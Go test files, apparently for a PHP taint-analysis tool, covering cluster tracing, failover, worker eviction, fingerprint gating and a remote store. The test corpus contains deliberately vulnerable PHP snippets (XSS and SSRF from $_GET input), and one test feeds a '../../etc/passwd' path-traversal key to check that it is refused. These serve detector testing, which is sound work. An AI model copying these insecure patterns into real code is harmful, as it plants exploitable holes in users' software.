	wts := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if tp := r.Header.Get(telemetry.TraceparentHeader); tp != "" {
			hdrMu.Lock()
			workerHeaders = append(workerHeaders, tp)
			hdrMu.Unlock()
		}
		wh.ServeHTTP(w, r)
	}))
	t.Cleanup(wts.Close)

	coordLogger := newTestLogger(t, &coordLog)
	c, _ := newTestCoordinator(t, Config{Logger: coordLogger})
	mustRegister(t, c, wts.URL, "w-1")

	front := httptest.NewServer(service.New(service.Config{
		Runner:    c,
		Telemetry: telemetry.New(),
		Logger:    coordLogger,
	}).Handler())
	t.Cleanup(front.Close)

	tc := telemetry.NewTraceContext()
	ctx := telemetry.WithTraceContext(context.Background(), tc)
	cl := client.New(front.URL)

	sub, err := cl.SubmitDir(ctx, client.SubmitDirRequest{Dir: dir})
	if err != nil {
		t.Fatal(err)
	}
	if sub.TraceID != tc.TraceID {
		t.Fatalf("submit response trace_id = %q, want the submitted %q", sub.TraceID, tc.TraceID)
	}
	if sub.Trace == "" {
		t.Fatal("submit response is missing the trace URL")
	}
	st, err := cl.Wait(ctx, sub.Job)
	if err != nil {
		t.Fatal(err)
	}
	if st.TraceID != tc.TraceID {
		t.Fatalf("job status trace_id = %q, want %q", st.TraceID, tc.TraceID)
	}

	// (b) Every worker-bound hop carried the trace, re-parented per hop.
	hdrMu.Lock()
	headers := append([]string(nil), workerHeaders...)
	hdrMu.Unlock()
	if len(headers) == 0 {
		t.Fatal("worker saw no traceparent header")
	}
	for _, h := range headers {
		hop, ok := telemetry.ParseTraceparent(h)
		if !ok {
			t.Fatalf("worker received malformed traceparent %q", h)
		}
		if hop.TraceID != tc.TraceID {
			t.Fatalf("worker hop trace ID = %q, want %q (header %q)", hop.TraceID, tc.TraceID, h)
		}
		if hop.SpanID == tc.SpanID {
			t.Fatalf("worker hop reused the client's span ID %q; want a per-hop child", tc.SpanID)
		}
	}

	// (c) The stitched document: coordinator spans on pid 1 stamped with
	// the trace ID, worker spans under their own process.
	doc, err := cl.JobTrace(ctx, sub.Job)
	if err != nil {
		t.Fatal(err)
	}
	var sawDispatch, sawWorkerProc, sawWorkerSpan bool
	for _, ev := range doc.TraceEvents {
		if ev.Ph == "M" && ev.Name == "process_name" && ev.PID > 1 {
			if name, _ := ev.Args["name"].(string); strings.Contains(name, "w-1") {
				sawWorkerProc = true
			}
		}
		if ev.PID > 1 && ev.Ph == "X" {
			sawWorkerSpan = true
		}
		if ev.Name == "dispatch" && ev.PID == 1 {
			sawDispatch = true
			if got, _ := ev.Args["trace_id"].(string); got != tc.TraceID {
				t.Fatalf("dispatch span trace_id = %q, want %q", got, tc.TraceID)
			}
		}
	}
	if !sawDispatch || !sawWorkerProc || !sawWorkerSpan {
		t.Fatalf("stitched trace incomplete: dispatch=%v workerProc=%v workerSpan=%v (%d events)",
			sawDispatch, sawWorkerProc, sawWorkerSpan, len(doc.TraceEvents))
	}

	// (d) Both sides logged under the same trace ID.
	if !strings.Contains(coordLog.String(), tc.TraceID) {
		t.Fatalf("coordinator logs never mention trace %s:\n%s", tc.TraceID, coordLog.String())
	}
	if !strings.Contains(workerLog.String(), tc.TraceID) {
		t.Fatalf("worker logs never mention trace %s:\n%s", tc.TraceID, workerLog.String())
	}
}

// TestTraceMintedWithoutTraceparent: a submission with no traceparent
// still gets a valid trace ID minted at admission.
func TestTraceMintedWithoutTraceparent(t *testing.T) {
	front := httptest.NewServer(service.New(service.Config{Telemetry: telemetry.New()}).Handler())
	t.Cleanup(front.Close)
	cl := client.New(front.URL)
	sub, err := cl.SubmitFile(context.Background(), client.SubmitFileRequest{
		Name: "static.php", Source: testCorpus["static.php"],
	})
	if err != nil {
		t.Fatal(err)
	}
	if _, ok := telemetry.ParseTraceparent("00-" + sub.TraceID + "-0000000000000001-01"); !ok {
		t.Fatalf("minted trace ID %q is not valid", sub.TraceID)
	}
	if _, err := cl.Wait(context.Background(), sub.Job); err != nil {
		t.Fatal(err)
	}
	doc, err := cl.JobTrace(context.Background(), sub.Job)
	if err != nil {
		t.Fatal(err)
	}
	if len(doc.TraceEvents) == 0 {
		t.Fatal("standalone job produced an empty trace document")
	}
	found := false
	for _, ev := range doc.TraceEvents {
		if got, _ := ev.Args["trace_id"].(string); got == sub.TraceID {
			found = true
			break
		}
	}
	if !found {
		t.Fatalf("no span carries the minted trace ID %s", sub.TraceID)
	}
}
