package cluster

// Cluster-side policy smoke tests: a per-job policy travels the wire
// with its file and shapes the remote verdict, the registration
// fingerprint gate keeps mixed-policy clusters from forming, and the
// per-policy job counters surface on GET /v1/cluster.

import (
	"context"
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"

	"webssari"
	"webssari/internal/service"
)

const ssrfSrc = `<?php
$url = $_GET['feed'];
$body = file_get_contents($url);
?>`

const contextXSSSrc = `<?php
$name = htmlspecialchars($_GET['name']);
echo "<input value='$name'>";
?>`

// TestClusterPolicyRoundTrip dispatches policy-carrying jobs to a
// remote worker and holds the clustered report to byte-identity with a
// local run under the same policy — the proof that the policy selection
// survived the wire.
func TestClusterPolicyRoundTrip(t *testing.T) {
	c, _ := newTestCoordinator(t, Config{})
	w := newWorkerServer(t, service.Config{})
	mustRegister(t, c, w.URL, "worker-1")
	ctx := context.Background()

	cases := []struct {
		name   string
		src    string
		policy string
		class  string
	}{
		{"fetch.php", ssrfSrc, "ssrf", "server-side request forgery (SSRF)"},
		{"widget.php", contextXSSSrc, "xss-context", "cross-site scripting (XSS)"},
	}
	for _, tc := range cases {
		t.Run(tc.policy, func(t *testing.T) {
			opt := webssari.WithPolicy(tc.policy)
			local, err := webssari.VerifyContext(ctx, []byte(tc.src), tc.name, opt)
			if err != nil {
				t.Fatal(err)
			}
			got, err := c.VerifyFile(ctx, []byte(tc.src), tc.name, opt)
			if err != nil {
				t.Fatal(err)
			}
			if cl := got.Profile.Cluster; cl == nil || cl.Remote != 1 {
				t.Fatalf("file was not verified remotely: %+v", got.Profile.Cluster)
			}
			if got.Safe {
				t.Fatalf("remote run under %s missed the finding:\n%s", tc.policy, got.Text)
			}
			if len(got.Findings) == 0 || got.Findings[0].Class != tc.class {
				t.Fatalf("findings = %+v, want class %q", got.Findings, tc.class)
			}
			if li, gi := reportIdentity(t, local), reportIdentity(t, got); li != gi {
				t.Fatalf("clustered policy run diverges from local:\nlocal:\n%s\nclustered:\n%s", li, gi)
			}
		})
	}
}

// TestClusterPolicyFingerprintGate: a coordinator pinned to one
// policy's fingerprint accepts only workers configured identically —
// the policy is part of the verdict-shaping configuration.
func TestClusterPolicyFingerprintGate(t *testing.T) {
	fp := Fingerprint(webssari.WithPolicy("ssrf"))
	if fp == "" {
		t.Fatal("empty coordinator fingerprint")
	}
	if fp == Fingerprint() {
		t.Fatal("policy does not shape the cluster fingerprint")
	}
	c, _ := newTestCoordinator(t, Config{Fingerprint: fp})
	w := newWorkerServer(t, service.Config{})

	if _, err := c.register(w.URL, "worker-default", Fingerprint()); err == nil {
		t.Fatal("worker with a different policy fingerprint was admitted")
	} else if !strings.Contains(err.Error(), "fingerprint mismatch") {
		t.Fatalf("unexpected rejection: %v", err)
	}
	if _, err := c.register(w.URL, "worker-ssrf", Fingerprint(webssari.WithPolicy("ssrf"))); err != nil {
		t.Fatalf("matching worker rejected: %v", err)
	}
}

// TestClusterStatusJobsByPolicy wires a daemon's per-policy counters
// into the coordinator (as cmd/webssarid does) and reads them back from
// GET /v1/cluster.
func TestClusterStatusJobsByPolicy(t *testing.T) {
	svc := service.New(service.Config{Workers: 1})
	defer svc.Drain(context.Background())
	wts := httptest.NewServer(svc.Handler())
	defer wts.Close()

	c, cts := newTestCoordinator(t, Config{JobCounts: svc.JobsByPolicy})
	mustRegister(t, c, wts.URL, "worker-1")
	ctx := context.Background()

	if _, err := c.VerifyFile(ctx, []byte(ssrfSrc), "fetch.php", webssari.WithPolicy("ssrf")); err != nil {
		t.Fatal(err)
	}
	if _, err := c.VerifyFile(ctx, []byte(ssrfSrc), "fetch.php"); err != nil {
		t.Fatal(err)
	}

	resp, err := http.Get(cts.URL + "/v1/cluster")
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	var st struct {
		JobsByPolicy map[string]int64 `json:"jobs_by_policy"`
	}
	if err := json.NewDecoder(resp.Body).Decode(&st); err != nil {
		t.Fatal(err)
	}
	if st.JobsByPolicy["ssrf"] != 1 || st.JobsByPolicy["default"] != 1 {
		t.Fatalf("jobs_by_policy = %v, want ssrf:1 default:1", st.JobsByPolicy)
	}
}
