package cluster

// End-to-end cluster tests: real worker daemons (internal/service) behind
// httptest servers, a real coordinator, and the chaos Hooks driving the
// failure scenarios. The load-bearing assertion everywhere is the
// engine's invariant: a clustered run's verdicts — through any worker
// death the coordinator is designed to survive — are byte-identical
// (profiles and placement counters aside) to a local run's.

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"sync"
	"testing"
	"time"

	"webssari"
	"webssari/client"
	"webssari/internal/service"
	"webssari/internal/store"
	"webssari/internal/telemetry"
)

// testCorpus mixes vulnerable and safe entry files so a run's verdict
// set is non-trivial in both directions.
var testCorpus = map[string]string{
	"guestbook.php": "<?php\n$name = $_GET['name'];\necho \"<p>Hello, $name</p>\";\n?>",
	"search.php":    "<?php\n$q = $_GET['q'];\necho \"results for $q\";\n?>",
	"profile.php":   "<?php\n$who = $_GET['who'];\necho \"profile of $who\";\n?>",
	"static.php":    "<?php echo \"static page\"; ?>",
	"about.php":     "<?php echo \"about us\"; ?>",
	"footer.php":    "<?php echo \"footer\"; ?>",
}

func writeCorpus(t *testing.T) string {
	t.Helper()
	dir := t.TempDir()
	for name, src := range testCorpus {
		if err := os.WriteFile(filepath.Join(dir, name), []byte(src), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	return dir
}

func openStore(t *testing.T) *store.Store {
	t.Helper()
	st, err := store.Open(t.TempDir(), store.Options{})
	if err != nil {
		t.Fatal(err)
	}
	return st
}

// newTestCoordinator builds a coordinator with test-speed backoffs and
// polling, serves its HTTP surface, and wires cleanup.
func newTestCoordinator(t *testing.T, cfg Config) (*Coordinator, *httptest.Server) {
	t.Helper()
	if cfg.Telemetry == nil {
		cfg.Telemetry = telemetry.New()
	}
	if cfg.BaseBackoff == 0 {
		cfg.BaseBackoff = time.Millisecond
	}
	if cfg.MaxBackoff == 0 {
		cfg.MaxBackoff = 10 * time.Millisecond
	}
	if cfg.PollInterval == 0 {
		cfg.PollInterval = 5 * time.Millisecond
	}
	c := New(cfg)
	t.Cleanup(c.Close)
	ts := httptest.NewServer(c.Handler())
	t.Cleanup(ts.Close)
	return c, ts
}

func newWorkerServer(t *testing.T, cfg service.Config) *httptest.Server {
	t.Helper()
	ts := httptest.NewServer(service.New(cfg).Handler())
	t.Cleanup(ts.Close)
	return ts
}

func mustRegister(t *testing.T, c *Coordinator, addr, name string) string {
	t.Helper()
	id, err := c.register(addr, name, "")
	if err != nil {
		t.Fatalf("registering %s: %v", name, err)
	}
	return id
}

func counterValue(c *Coordinator, name string) int64 {
	return c.cfg.Telemetry.Metrics.Counter(name).Value()
}

// projectIdentity renders the deterministic identity of a project
// report: everything except the profile tree and the placement-dependent
// cache/store counters — exactly what the byte-identity invariant
// promises.
func projectIdentity(t *testing.T, pr *webssari.ProjectReport) string {
	t.Helper()
	cp := *pr
	cp.Profile = nil
	cp.CacheHits, cp.CacheMisses = 0, 0
	cp.StoreHits, cp.StoreMisses = 0, 0
	cp.CompileWall, cp.SolveWall = 0, 0
	files := make([]*webssari.Report, len(pr.Files))
	for i, f := range pr.Files {
		fc := *f
		fc.Profile = nil
		files[i] = &fc
	}
	cp.Files = files
	b, err := json.MarshalIndent(&cp, "", "  ")
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

func reportIdentity(t *testing.T, rep *webssari.Report) string {
	t.Helper()
	cp := *rep
	cp.Profile = nil
	b, err := json.MarshalIndent(&cp, "", "  ")
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

func waitFor(t *testing.T, timeout time.Duration, what string, cond func() bool) {
	t.Helper()
	deadline := time.Now().Add(timeout)
	for time.Now().Before(deadline) {
		if cond() {
			return
		}
		time.Sleep(5 * time.Millisecond)
	}
	t.Fatalf("timed out after %v waiting for %s", timeout, what)
}

// TestClusterVerifyDirMatchesLocal is the invariant in its healthy-path
// form: two workers sharing the coordinator's store over RemoteStore,
// every file dispatched remotely, report byte-identical to a local run.
func TestClusterVerifyDirMatchesLocal(t *testing.T) {
	dir := writeCorpus(t)
	st := openStore(t)
	c, coordTS := newTestCoordinator(t, Config{Store: st})
	remote := NewRemoteStore(coordTS.URL, nil)
	w1 := newWorkerServer(t, service.Config{StoreBackend: remote})
	w2 := newWorkerServer(t, service.Config{StoreBackend: remote})
	mustRegister(t, c, w1.URL, "worker-1")
	mustRegister(t, c, w2.URL, "worker-2")

	ctx := context.Background()
	local, err := webssari.VerifyDirContext(ctx, dir)
	if err != nil {
		t.Fatal(err)
	}
	got, err := c.VerifyDir(ctx, dir)
	if err != nil {
		t.Fatal(err)
	}

	if li, gi := projectIdentity(t, local), projectIdentity(t, got); li != gi {
		t.Fatalf("clustered report diverges from local run:\nlocal:\n%s\nclustered:\n%s", li, gi)
	}
	cl := got.Profile.Cluster
	if cl == nil {
		t.Fatal("clustered report is missing its profile cluster section")
	}
	if cl.Workers != 2 || cl.Remote != len(testCorpus) || cl.Local != 0 || cl.Degraded {
		t.Fatalf("cluster profile = %+v; want 2 workers, all %d files remote, not degraded", cl, len(testCorpus))
	}
	if st.Len() == 0 {
		t.Fatal("workers wrote nothing through the shared remote store")
	}
}

// TestClusterVerifyFileMatchesLocal covers the single-file surface,
// including the rendered-text fetch that only single-file callers need.
func TestClusterVerifyFileMatchesLocal(t *testing.T) {
	c, _ := newTestCoordinator(t, Config{})
	w1 := newWorkerServer(t, service.Config{})
	mustRegister(t, c, w1.URL, "worker-1")

	ctx := context.Background()
	src := []byte(testCorpus["guestbook.php"])
	local, err := webssari.VerifyContext(ctx, src, "guestbook.php")
	if err != nil {
		t.Fatal(err)
	}
	got, err := c.VerifyFile(ctx, src, "guestbook.php")
	if err != nil {
		t.Fatal(err)
	}
	if li, gi := reportIdentity(t, local), reportIdentity(t, got); li != gi {
		t.Fatalf("clustered report diverges from local run:\nlocal:\n%s\nclustered:\n%s", li, gi)
	}
	if got.Text == "" {
		t.Fatal("remote single-file report lost its rendered text")
	}
	if cl := got.Profile.Cluster; cl == nil || cl.Remote != 1 || cl.Degraded {
		t.Fatalf("cluster profile = %+v; want one remote file, not degraded", got.Profile.Cluster)
	}
}

// TestClusterFailover drives the three kill points the design must
// survive without losing, duplicating, or changing a single verdict.
func TestClusterFailover(t *testing.T) {
	ctx := context.Background()

	// The worker is already dead when the run starts; every file it owns
	// fails over to the survivor.
	t.Run("worker-down-before-dispatch", func(t *testing.T) {
		dir := writeCorpus(t)
		local, err := webssari.VerifyDirContext(ctx, dir)
		if err != nil {
			t.Fatal(err)
		}
		c, _ := newTestCoordinator(t, Config{})
		victim := newWorkerServer(t, service.Config{})
		survivor := newWorkerServer(t, service.Config{})
		mustRegister(t, c, victim.URL, "victim")
		mustRegister(t, c, survivor.URL, "survivor")
		victim.Close() // dead before the first dispatch

		got, err := c.VerifyDir(ctx, dir)
		if err != nil {
			t.Fatal(err)
		}
		if li, gi := projectIdentity(t, local), projectIdentity(t, got); li != gi {
			t.Fatalf("verdicts diverged after pre-run worker death:\nlocal:\n%s\nclustered:\n%s", li, gi)
		}
		if got.Profile.Cluster.Degraded {
			t.Fatal("run degraded although a healthy survivor was available")
		}
	})

	// The worker dies mid-corpus, on its first dispatch. Starting with
	// the victim as the only member makes the kill deterministic: the
	// first file must route to it, and the fault hook registers the
	// survivor and then kills the victim — so at least one file is
	// provably re-dispatched.
	t.Run("worker-killed-mid-run", func(t *testing.T) {
		dir := writeCorpus(t)
		local, err := webssari.VerifyDirContext(ctx, dir)
		if err != nil {
			t.Fatal(err)
		}

		victim := newWorkerServer(t, service.Config{})
		survivor := newWorkerServer(t, service.Config{})
		var (
			coord    *Coordinator
			mu       sync.Mutex
			victimID string
			killed   bool
		)
		cfg := Config{Hooks: Hooks{BeforeDispatch: func(workerID, file string, attempt int) error {
			mu.Lock()
			defer mu.Unlock()
			if workerID != victimID || killed {
				return nil
			}
			killed = true
			if _, err := coord.register(survivor.URL, "survivor", ""); err != nil {
				t.Errorf("registering survivor: %v", err)
			}
			victim.CloseClientConnections()
			victim.Close() // SIGKILL, in-process form
			return nil
		}}}
		c, _ := newTestCoordinator(t, cfg)
		coord = c
		mu.Lock()
		victimID = mustRegister(t, c, victim.URL, "victim")
		mu.Unlock()

		got, err := c.VerifyDir(ctx, dir)
		if err != nil {
			t.Fatal(err)
		}
		if li, gi := projectIdentity(t, local), projectIdentity(t, got); li != gi {
			t.Fatalf("verdicts diverged after mid-run worker death:\nlocal:\n%s\nclustered:\n%s", li, gi)
		}
		if len(got.Files) != len(testCorpus) {
			t.Fatalf("report has %d files; corpus has %d — a verdict was lost or duplicated", len(got.Files), len(testCorpus))
		}
		if got.Profile.Cluster.Redispatches < 1 {
			t.Fatalf("cluster profile = %+v; the killed worker's file must be re-dispatched", got.Profile.Cluster)
		}
		if got.Profile.Cluster.Degraded {
			t.Fatal("run degraded although the survivor could take every file")
		}
		if n := counterValue(c, telemetry.MetricClusterRedispatches); n < 1 {
			t.Fatalf("redispatch counter = %d; want >= 1", n)
		}
	})

	// The worker dies after its results are persisted in the shared
	// store: a replacement worker serves the same verdicts from the
	// store — nothing the dead worker computed is lost.
	t.Run("worker-killed-after-results-persisted", func(t *testing.T) {
		dir := writeCorpus(t)
		local, err := webssari.VerifyDirContext(ctx, dir)
		if err != nil {
			t.Fatal(err)
		}
		st := openStore(t)
		c, coordTS := newTestCoordinator(t, Config{Store: st})
		remote := NewRemoteStore(coordTS.URL, nil)

		w1 := newWorkerServer(t, service.Config{StoreBackend: remote})
		id1 := mustRegister(t, c, w1.URL, "first")
		first, err := c.VerifyDir(ctx, dir)
		if err != nil {
			t.Fatal(err)
		}
		if st.Len() == 0 {
			t.Fatal("first worker persisted nothing before dying")
		}
		hitsBefore := st.Stats().Hits

		if !c.deregister(id1) {
			t.Fatal("deregistering the first worker failed")
		}
		w1.Close()

		w2 := newWorkerServer(t, service.Config{StoreBackend: remote})
		mustRegister(t, c, w2.URL, "second")
		second, err := c.VerifyDir(ctx, dir)
		if err != nil {
			t.Fatal(err)
		}

		li := projectIdentity(t, local)
		if fi := projectIdentity(t, first); fi != li {
			t.Fatalf("first clustered run diverges from local:\nlocal:\n%s\nclustered:\n%s", li, fi)
		}
		if si := projectIdentity(t, second); si != li {
			t.Fatalf("replacement worker's run diverges:\nlocal:\n%s\nclustered:\n%s", li, si)
		}
		if hits := st.Stats().Hits; hits <= hitsBefore {
			t.Fatalf("store hits %d -> %d; the replacement worker should have served the dead worker's verdicts from the store", hitsBefore, hits)
		}
		if second.Profile.Cluster.Degraded {
			t.Fatal("second run degraded although the replacement worker was live")
		}
	})
}

// TestClusterZeroWorkersDegradesToLocal: an empty cluster never fails a
// job — it runs locally and stamps the degradation in the profile.
func TestClusterZeroWorkersDegradesToLocal(t *testing.T) {
	c, _ := newTestCoordinator(t, Config{})
	ctx := context.Background()
	src := []byte(testCorpus["search.php"])

	local, err := webssari.VerifyContext(ctx, src, "search.php")
	if err != nil {
		t.Fatal(err)
	}
	got, err := c.VerifyFile(ctx, src, "search.php")
	if err != nil {
		t.Fatalf("zero-worker cluster failed the job instead of degrading: %v", err)
	}
	if li, gi := reportIdentity(t, local), reportIdentity(t, got); li != gi {
		t.Fatalf("degraded verdict diverges from local run:\nlocal:\n%s\ndegraded:\n%s", li, gi)
	}
	cl := got.Profile.Cluster
	if cl == nil || !cl.Degraded || cl.Local != 1 || cl.Workers != 0 {
		t.Fatalf("cluster profile = %+v; want degraded, 1 local file, 0 workers", cl)
	}
	if got.Text == "" {
		t.Fatal("degraded local report lost its rendered text")
	}
	if n := counterValue(c, telemetry.MetricClusterDegradedRuns); n != 1 {
		t.Fatalf("degraded-run counter = %d; want 1", n)
	}
	if n := c.degradedRuns.Load(); n != 1 {
		t.Fatalf("degraded-run status counter = %d; want 1", n)
	}
}

// wedgedRunner is a worker engine that never finishes a job — a stand-in
// for a wedged or silently dead daemon whose HTTP frontend still answers.
type wedgedRunner struct{ release chan struct{} }

func (r wedgedRunner) VerifyFile(ctx context.Context, src []byte, name string, opts ...webssari.Option) (*webssari.Report, error) {
	select {
	case <-ctx.Done():
	case <-r.release:
	}
	return nil, fmt.Errorf("wedged worker released")
}

func (r wedgedRunner) VerifyDir(ctx context.Context, dir string, opts ...webssari.Option) (*webssari.ProjectReport, error) {
	select {
	case <-ctx.Done():
	case <-r.release:
	}
	return nil, fmt.Errorf("wedged worker released")
}

// TestClusterEvictionCancelsInFlightDispatch: a worker that accepts a
// job and then goes silent is evicted on missed heartbeats, and the
// eviction — not the (much longer) dispatch timeout — is what unblocks
// the in-flight dispatch.
func TestClusterEvictionCancelsInFlightDispatch(t *testing.T) {
	release := make(chan struct{})
	t.Cleanup(func() { close(release) })
	wedged := newWorkerServer(t, service.Config{Runner: wedgedRunner{release: release}})

	evicted := make(chan string, 1)
	c, _ := newTestCoordinator(t, Config{
		HeartbeatInterval: 50 * time.Millisecond,
		HeartbeatMisses:   2,
		RetryBudget:       2,
		// Deliberately enormous: if the test finishes fast, it was the
		// eviction that cancelled the dispatch.
		DispatchTimeout: 5 * time.Minute,
		Hooks: Hooks{OnEvict: func(id string) {
			select {
			case evicted <- id:
			default:
			}
		}},
	})
	mustRegister(t, c, wedged.URL, "wedged") // registers, then never heartbeats

	ctx := context.Background()
	src := []byte(testCorpus["static.php"])
	local, err := webssari.VerifyContext(ctx, src, "static.php")
	if err != nil {
		t.Fatal(err)
	}

	start := time.Now()
	got, err := c.VerifyFile(ctx, src, "static.php")
	elapsed := time.Since(start)
	if err != nil {
		t.Fatal(err)
	}
	if elapsed > 30*time.Second {
		t.Fatalf("dispatch took %v; eviction should have cancelled it within a few heartbeat intervals", elapsed)
	}
	select {
	case <-evicted:
	default:
		t.Fatal("the silent worker was never evicted")
	}
	if li, gi := reportIdentity(t, local), reportIdentity(t, got); li != gi {
		t.Fatalf("post-eviction verdict diverges from local run:\nlocal:\n%s\ngot:\n%s", li, gi)
	}
	if cl := got.Profile.Cluster; cl == nil || !cl.Degraded {
		t.Fatalf("cluster profile = %+v; the run should have degraded to local after the only worker died mid-job", got.Profile.Cluster)
	}
	if n := counterValue(c, telemetry.MetricClusterEvictions); n < 1 {
		t.Fatalf("eviction counter = %d; want >= 1", n)
	}
}

// TestClusterConcurrentRegistrationAndEviction hammers membership from
// several goroutines while the eviction loop runs at full speed and the
// status endpoint is read concurrently — the data-race canary for the
// coordinator's membership state.
func TestClusterConcurrentRegistrationAndEviction(t *testing.T) {
	c, ts := newTestCoordinator(t, Config{
		HeartbeatInterval: 10 * time.Millisecond,
		HeartbeatMisses:   1,
	})

	var wg sync.WaitGroup
	for g := 0; g < 4; g++ {
		wg.Add(1)
		go func(g int) {
			defer wg.Done()
			for i := 0; i < 25; i++ {
				addr := fmt.Sprintf("http://10.0.%d.%d:7070", g+1, i+1)
				id, err := c.register(addr, fmt.Sprintf("g%d-w%d", g, i), "")
				if err != nil {
					t.Errorf("concurrent register: %v", err)
					return
				}
				switch i % 3 {
				case 0:
					c.heartbeat(id)
				case 1:
					c.deregister(id) // may race an eviction; both outcomes are fine
				}
			}
		}(g)
	}
	wg.Add(1)
	go func() {
		defer wg.Done()
		cl := client.New(ts.URL)
		for i := 0; i < 30; i++ {
			if _, err := cl.Cluster(context.Background()); err != nil {
				t.Errorf("concurrent status read: %v", err)
				return
			}
			time.Sleep(time.Millisecond)
		}
	}()
	wg.Wait()

	// Nobody heartbeats anymore: the eviction loop must drain the
	// remaining membership on its own.
	waitFor(t, 5*time.Second, "all silent workers to be evicted", func() bool {
		return c.liveWorkers() == 0
	})
}

// TestFingerprintGate: workers running different verdict-shaping options
// than the coordinator are rejected at the door, before they can break
// verdict identity.
func TestFingerprintGate(t *testing.T) {
	fpA := Fingerprint(webssari.WithConfig(webssari.Config{Deadline: 5 * time.Second}))
	fpB := Fingerprint(webssari.WithConfig(webssari.Config{Deadline: 7 * time.Second}))
	if fpA == "" || fpB == "" {
		t.Fatal("fingerprints should never be empty for valid options")
	}
	if fpA == fpB {
		t.Fatal("different deadlines produced the same fingerprint")
	}
	if again := Fingerprint(webssari.WithConfig(webssari.Config{Deadline: 5 * time.Second})); again != fpA {
		t.Fatalf("fingerprint is not deterministic: %s vs %s", again, fpA)
	}

	_, ts := newTestCoordinator(t, Config{Fingerprint: fpA})
	cl := client.New(ts.URL)
	ctx := context.Background()

	if _, err := cl.RegisterWorker(ctx, client.RegisterWorkerRequest{Addr: "http://127.0.0.1:7070", Name: "bad", Fingerprint: fpB}); err == nil {
		t.Fatal("mismatched fingerprint was accepted")
	} else if apiErr, ok := err.(*client.APIError); !ok || apiErr.StatusCode != http.StatusConflict {
		t.Fatalf("mismatched fingerprint: got %v; want HTTP 409", err)
	}
	if _, err := cl.RegisterWorker(ctx, client.RegisterWorkerRequest{Addr: "http://127.0.0.1:7071", Name: "good", Fingerprint: fpA}); err != nil {
		t.Fatalf("matching fingerprint rejected: %v", err)
	}
	if _, err := cl.RegisterWorker(ctx, client.RegisterWorkerRequest{Addr: "http://127.0.0.1:7072", Name: "legacy"}); err != nil {
		t.Fatalf("empty fingerprint (legacy worker) rejected: %v", err)
	}
	if _, err := cl.RegisterWorker(ctx, client.RegisterWorkerRequest{Name: "no-addr"}); err == nil {
		t.Fatal("registration without an address was accepted")
	}
	if _, err := cl.RegisterWorker(ctx, client.RegisterWorkerRequest{Addr: "not-a-url", Name: "bad-addr"}); err == nil {
		t.Fatal("registration with a relative address was accepted")
	}
}

// TestRemoteStoreRoundTrip exercises the shared-store wire path both
// ways, its degrade-to-miss failure semantics, and the key validation
// that keeps path-like strings away from the store's filesystem.
func TestRemoteStoreRoundTrip(t *testing.T) {
	st := openStore(t)
	mux := http.NewServeMux()
	(&storeServer{backend: st}).register(mux)
	ts := httptest.NewServer(mux)
	t.Cleanup(ts.Close)

	rs := NewRemoteStore(ts.URL+"/", nil) // trailing slash is tolerated
	key := store.Key("cluster-remote-store-test", "payload")
	if _, ok := rs.Get(key); ok {
		t.Fatal("got a hit from an empty store")
	}
	payload := []byte("verdict envelope bytes")
	if err := rs.Put(key, payload); err != nil {
		t.Fatalf("put: %v", err)
	}
	got, ok := rs.Get(key)
	if !ok || !bytes.Equal(got, payload) {
		t.Fatalf("get after put = %q, %v; want the payload back", got, ok)
	}

	// Namespaced keys are 64-hex too and must round-trip the same way.
	nk := store.NamespacedKey("depgraph", key)
	if err := rs.Put(nk, []byte("graph blob")); err != nil {
		t.Fatalf("namespaced put: %v", err)
	}
	if _, ok := rs.Get(nk); !ok {
		t.Fatal("namespaced key did not round-trip")
	}

	rs.Invalidate(key)
	if _, ok := rs.Get(key); ok {
		t.Fatal("got a hit after invalidation")
	}

	// Malformed keys must be refused on both sides of the wire.
	if err := rs.Put("../../etc/passwd", payload); err == nil {
		t.Fatal("path-like key accepted by the client side")
	}
	if _, ok := rs.Get("ABCDEF"); ok {
		t.Fatal("non-hex key produced a hit")
	}
	resp, err := http.Get(ts.URL + "/v1/store/zz")
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusBadRequest {
		t.Fatalf("server answered %d for a malformed key; want 400", resp.StatusCode)
	}

	// An unreachable coordinator degrades reads to misses and surfaces
	// write errors, per the store contract.
	down := NewRemoteStore("http://127.0.0.1:1", nil)
	if _, ok := down.Get(key); ok {
		t.Fatal("unreachable store produced a hit")
	}
	if err := down.Put(key, payload); err == nil {
		t.Fatal("unreachable store accepted a put")
	}
}

// TestServiceRoutesJobsThroughCoordinator is the webssarid wiring in
// miniature: a front daemon whose Runner is the coordinator, driven over
// the public client, must produce the same report a local run does —
// with the cluster section present in the wire-served profile.
func TestServiceRoutesJobsThroughCoordinator(t *testing.T) {
	dir := writeCorpus(t)
	ctx := context.Background()
	local, err := webssari.VerifyDirContext(ctx, dir)
	if err != nil {
		t.Fatal(err)
	}

	c, _ := newTestCoordinator(t, Config{})
	w1 := newWorkerServer(t, service.Config{})
	mustRegister(t, c, w1.URL, "worker-1")

	front := httptest.NewServer(service.New(service.Config{Runner: c}).Handler())
	t.Cleanup(front.Close)
	cl := client.New(front.URL, client.WithPollInterval(5*time.Millisecond))

	sub, err := cl.SubmitDir(ctx, client.SubmitDirRequest{Dir: dir})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := cl.Wait(ctx, sub.Job); err != nil {
		t.Fatal(err)
	}
	pr, err := cl.DirResult(ctx, sub.Job)
	if err != nil {
		t.Fatal(err)
	}

	if li, gi := projectIdentity(t, local), projectIdentity(t, pr); li != gi {
		t.Fatalf("daemon-routed clustered report diverges from local run:\nlocal:\n%s\nclustered:\n%s", li, gi)
	}
	if pr.Profile == nil || pr.Profile.Cluster == nil {
		t.Fatal("wire-served report lost its cluster profile section")
	}
	if pr.Profile.Cluster.Remote != len(testCorpus) {
		t.Fatalf("cluster profile = %+v; want all %d files remote", pr.Profile.Cluster, len(testCorpus))
	}
}

// TestClusterDispatchRetriesInjectedFaults covers the remaining chaos
// dimension: transient dispatch faults (the moral equivalent of 5xx or
// timeouts on the wire). Every file's first two dispatch attempts are
// made to fail; the default retry budget of 3 must absorb both faults,
// land every file remotely on the third attempt, and change nothing
// about the verdicts.
